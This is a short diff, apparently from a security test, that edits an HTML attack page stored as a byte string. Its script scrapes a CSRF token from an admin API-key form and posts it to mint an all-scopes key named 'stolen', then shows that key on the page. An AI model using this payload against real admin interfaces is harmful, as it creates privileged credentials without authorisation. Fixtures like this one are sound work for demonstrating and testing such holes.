@@ -14,7 +14,7 @@ ATTACK = b"""<!doctype html><title>attack</title><body>start<script>
 document.body.textContent = "script ran";
 fetch("/admin/routing/apikey/add/").then(r => r.text()).then(async page => {
   const token = /csrfmiddlewaretoken" value="([^"]+)"/.exec(page)[1];
-  const form = new URLSearchParams({csrfmiddlewaretoken: token, name: "stolen", scopes: '["*"]', tenant: ""});
+  const form = new URLSearchParams({csrfmiddlewaretoken: token, name: "stolen", scopes: "*", tenant: ""});
   const made = await fetch("/admin/routing/apikey/add/", {method: "POST", body: form});
   document.body.textContent = "minted " + /gw_[A-Za-z0-9_-]+/.exec(await made.text());
 });
